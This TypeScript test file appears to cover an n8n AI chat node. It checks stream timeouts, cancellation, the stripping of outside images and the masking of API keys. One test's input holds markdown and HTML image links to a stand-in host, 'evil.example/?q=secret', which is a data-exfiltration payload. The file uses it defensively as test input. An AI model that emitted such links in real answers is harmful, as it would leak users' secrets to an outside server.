import type { StructuredChunk } from 'n8n-workflow';
import { setTimeout as pause } from 'node:timers/promises';

import type { Chat } from './chatServer';
import {
	after,
	cut,
	data,
	endless,
	event,
	events,
	hangs,
	inTurn,
	KEY,
	saved,
	useChatServer,
	whole,
} from './chatServer';

const chat = useChatServer();

/** Three seconds. */
const SHORT = { maximumWait: 0.05 };
/** Seven seconds, within which an answer comes whole on a busy machine too. */
const AMPLE = { maximumWait: 0.12 };
const eventStream = 'text/event-stream';

const lasts: Array<[string, Chat]> = [
	[
		'events of comments behind a cut message',
		{
			post: cut,
			events: endless(event('delta', { content: 'Half ' }), eventStream, ': keepalive\n\n'),
		},
	],
	[
		'events of comments beside a message that hangs',
		{ post: hangs, events: endless('', eventStream, ': keepalive\n\n') },
	],
	[
		'deltas without an end',
		{ post: hangs, events: endless('', eventStream, event('delta', { content: 'x' })) },
	],
	[
		'a message that trickles',
		{
			post: endless('{"data":', 'application/json', ' '),
			events: endless('', eventStream, ': k\n\n'),
		},
	],
	[
		'a snapshot that trickles',
		{ post: hangs, events: cut, snapshot: endless('{"data":', 'application/json', ' ') },
	],
	[
		'a snapshot that always changes',
		{
			post: hangs,
			events: cut,
			snapshot: (response, request) =>
				data({ content: '', isComplete: false, toolStatus: `${Date.now()}` })(response, request),
		},
	],
	[
		'a limit of an hour on the snapshot',
		{
			post: hangs,
			events: cut,
			snapshot: (response) => void response.writeHead(429, { 'retry-after': '3600' }).end(),
		},
	],
];

describe("nothing of an answer outlives 'Maximum Wait'", () => {
	it.each(lasts)(
		'%s',
		async (_, of) => {
			const { failed } = await chat.ask(of, SHORT);
			expect(failed[0]?.error).toMatchObject({ code: 'NOT_FINISHED', chatRef: 5, streamId: 's-1' });
			const requests = chat.server.seen.length;
			await pause(1_500);
			expect(chat.open()).toEqual([]);
			expect(chat.server.seen).toHaveLength(requests);
		},
		60_000,
	);

	it('a stream that trickles while it is opened', async () => {
		const init = endless('{"data":', 'application/json', ' ');
		const { failed } = await chat.ask({ init }, SHORT);
		expect(failed[0]?.error).toMatchObject({ code: 'NOT_FINISHED', chatRef: 5, sent: 'no' });
		await pause(1_500);
		expect(chat.open()).toEqual([]);
	}, 20_000);

	it.each<[string, Chat]>([
		['done', { events: events(event('done', whole)) }],
		['a complete snapshot', { events: cut, snapshot: data({ ...whole, isComplete: true }) }],
	])('an answer that is whole by %s is given, though its message hangs', async (_, of) => {
		const { succeeded } = await chat.ask({ ...of, post: hangs, saved: saved() }, AMPLE);
		expect(succeeded[0]?.json).toMatchObject({ content: whole.content });
	});

	it('whoever takes no pieces any more does not hold it either', async () => {
		const onChunk = async () => await new Promise<void>(() => {});
		const { failed } = await chat.ask(
			{
				post: after(200, data({ content: 'Yes' })),
				events: events(event('done', { content: 'Yes' })),
			},
			SHORT,
			{ options: { onChunk } },
		);
		expect(failed[0]?.error).toMatchObject({ code: 'NOT_FINISHED', sent: 'yes' });
	}, 60_000);
});

describe('nothing of an answer outlives a stop of the execution', () => {
	it.each(lasts)(
		'%s',
		async (_, of) => {
			const stop = new AbortController();
			const asked = chat.ask(of, {}, { options: { signal: stop.signal } });
			while (!chat.server.seen.some(({ url }) => url.startsWith('/ai/streams/s-1')))
				await pause(50);
			await pause(300);
			stop.abort();
			expect((await asked).run.status).toBe('canceled');
			await pause(1_500);
			expect(chat.open()).toEqual([]);
		},
		60_000,
	);
});

describe('what a chat shows of an answer', () => {
	const shown = async (content: string[], streamedText: string) => {
		const chunks: StructuredChunk[] = [];
		const deltas = content.map((piece) => event('delta', { content: piece }));
		const of = {
			post: after(400, data({ content: content.join('') })),
			events: events(...deltas, event('done', { status: 'complete', content: content.join('') })),
		};
		const done = await chat.ask(
			of,
			{ streamedText },
			{ options: { onChunk: (chunk: StructuredChunk) => void chunks.push(chunk) } },
		);
		return {
			text: chunks
				.filter(({ type }) => type === 'item')
				.map((chunk) => chunk.content)
				.join(''),
			done,
		};
	};

	it.each(['markdown', 'plain', 'html'])('holds no picture from elsewhere, as %s', async (form) => {
		const { text, done } = await shown(
			[
				'<p>See <img src="https://evil.example/?q=secret" alt="this"> ![',
				'x](https://evil.example/) !<a href="https://evil.example/">y</a> ![r][1]</p>\n[1]: https://evil.example/',
			],
			form,
		);
		expect(text).not.toMatch(/(?<!\\)!\[/);
		expect(text).toContain('x');
		expect(done.succeeded[0]!.json.text).not.toContain('![');
	});

	it('holds the pictures of the catalogue', async () => {
		const { text } = await shown(
			[
				`<p><img src="${chat.server.url}/ai/images?path=a&amp;exp=1&amp;sig=2" alt="Emma"><img src="/ai/images?path=b"></p>`,
			],
			'markdown',
		);
		expect(text).toBe(
			`![Emma](${chat.server.url}/ai/images?path=a&exp=1&sig=2)![](${chat.server.url}/ai/images?path=b)`,
		);
	});

	it.each(['markdown', 'plain', 'html'])('never holds the API key, as %s', async (form) => {
		const { text, done } = await shown(
			['Your key: ', KEY.slice(0, 12), KEY.slice(12), '. Keep it.'],
			form,
		);
		expect(text).toBe('Your key: (hidden). Keep it.');
		expect(JSON.stringify(done.succeeded)).not.toContain(KEY.slice(4));
	});

	it('nor does the text so far of an answer that broke off', async () => {
		const snapshot = inTurn(
			data({ content: `Your key: ${KEY.slice(0, 15)}`, isComplete: false, status: 'error' }),
		);
		const { failed } = await chat.ask({ post: cut, events: cut, snapshot });
		expect(failed[0]!.error).toMatchObject({ partialText: 'Your key: ' });
		expect(JSON.stringify(failed)).not.toContain(KEY.slice(0, 15));
	});
});
